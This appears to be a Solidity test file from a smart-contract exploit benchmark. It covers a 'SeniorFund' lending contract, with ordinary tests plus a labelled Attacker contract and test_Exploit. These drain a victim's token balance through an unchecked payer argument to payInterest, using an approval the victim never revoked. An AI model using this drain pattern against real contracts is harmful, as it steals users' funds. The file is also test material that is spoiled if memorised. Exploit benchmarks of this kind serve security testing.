// SPDX-License-Identifier: MIT
pragma solidity 0.6.12;

import "./SeniorFund.sol";
import "@openzeppelin/contracts@3.4.2/token/ERC20/ERC20.sol";

// assay-canary-db77f292-07be-4c8a-a008-5bfb13cdd59c

interface Vm {
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert(bytes calldata reason) external;
}

contract Usd is ERC20 {
    constructor() public ERC20("Usd", "USD") {
        _mint(msg.sender, 2_000_000e6);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant SHOP = address(0x5A0);
    uint256 private constant WALLET = 330_000e6;

    Usd private usd;
    SeniorFund private fund;
    Attacker private mallory;

    function setUp() public {
        usd = new Usd();
        fund = new SeniorFund(usd);
        fund._setLine(SHOP, 50_000e6);
        usd.transfer(ANA, WALLET);
        usd.transfer(SHOP, 10_000e6);
        // Ana has invested once, taken everything out, and kept the approval
        vm.startPrank(ANA);
        usd.approve(address(fund), uint256(-1));
        fund.supply(1_000e6, 1_000e6);
        fund.withdraw(1_000e6);
        vm.stopPrank();
        vm.prank(SHOP);
        usd.approve(address(fund), uint256(-1));
        mallory = new Attacker(fund, usd);
        usd.transfer(address(mallory), 1e6);
    }

    function test_Regular() public {
        vm.prank(ANA);
        require(fund.supply(100_000e6, 0) == 100_000e6 && fund.shareMantissa() == 1e18, "one to one");
        vm.startPrank(SHOP);
        fund.draw(40_000e6);
        require(fund.payInterest(SHOP, 5_000e6) == 1.05e18, "five per cent");
        fund.repay(SHOP, 15_000e6);
        fund.draw(1_000e6);
        vm.stopPrank();
        (uint256 limit, uint256 balance, bool open) = fund.lines(SHOP);
        require(limit == 50_000e6 && balance == 26_000e6 && open, "line");
        usd.approve(address(fund), uint256(-1));
        require(fund.supply(21_000e6, 20_000e6) == 20_000e6, "dearer now");
        fund.payInterest(address(this), 6_000e6);
        require(fund.withdraw(20_000e6) == 22_000e6, "with a sixth of the interest");
        fund.repay(SHOP, 26_000e6);
        vm.prank(ANA);
        require(fund.withdraw(100_000e6) == 110_000e6 && usd.balanceOf(ANA) == 340_000e6, "all");
        require(usd.balanceOf(address(fund)) == 0 && fund.totalAssets() == 0, "empty");
        fund._setLine(SHOP, 0);
        fund._setPendingAdmin(ANA);
        vm.prank(ANA);
        fund._acceptAdmin();
        require(fund.admin() == ANA && fund.pendingAdmin() == address(0), "admin");
    }

    function test_RefusesOtherCallers() public {
        vm.startPrank(SHOP);
        vm.expectRevert("only the admin may set lines");
        fund._setLine(SHOP, 1);
        vm.expectRevert("only the admin may offer its place");
        fund._setPendingAdmin(SHOP);
        vm.expectRevert("only who was offered the place may accept it");
        fund._acceptAdmin();
        vm.stopPrank();
    }

    function test_RefusesDraws() public {
        vm.startPrank(ANA);
        fund.supply(100_000e6, 0);
        vm.expectRevert("the caller has no line");
        fund.draw(0);
        vm.stopPrank();
        vm.startPrank(SHOP);
        vm.expectRevert("the line is not that long");
        fund.draw(50_000e6 + 1);
        vm.stopPrank();
    }

    function test_RefusesAmountsWithoutShares() public {
        vm.startPrank(SHOP);
        vm.expectRevert("nobody has shares");
        fund.payInterest(SHOP, 1);
        fund.supply(1, 1);
        fund.payInterest(SHOP, 10);
        vm.expectRevert("the amount is too small for a share");
        fund.supply(10, 0);
        vm.expectRevert("the shares have become dearer");
        fund.supply(22, 3);
        vm.stopPrank();
    }

    function exploit() public {
        mallory.run(ANA);
    }

    function test_Exploit() public {
        exploit();
        require(usd.balanceOf(address(mallory)) >= WALLET, "nothing gained");
    }

    function target() public view returns (address) {
        return address(fund);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function token() public view returns (address) {
        return address(usd);
    }
}

/// Holds the only shares of the fund and lets somebody else pay interest on them.
contract Attacker {
    SeniorFund private fund;
    IERC20 private usd;

    constructor(SeniorFund fund_, IERC20 usd_) public {
        fund = fund_;
        usd = usd_;
    }

    function run(address payer) external {
        usd.approve(address(fund), uint256(-1));
        fund.supply(1e6, 1e6);
        fund.payInterest(payer, usd.balanceOf(payer));
        fund.withdraw(1e6);
    }
}
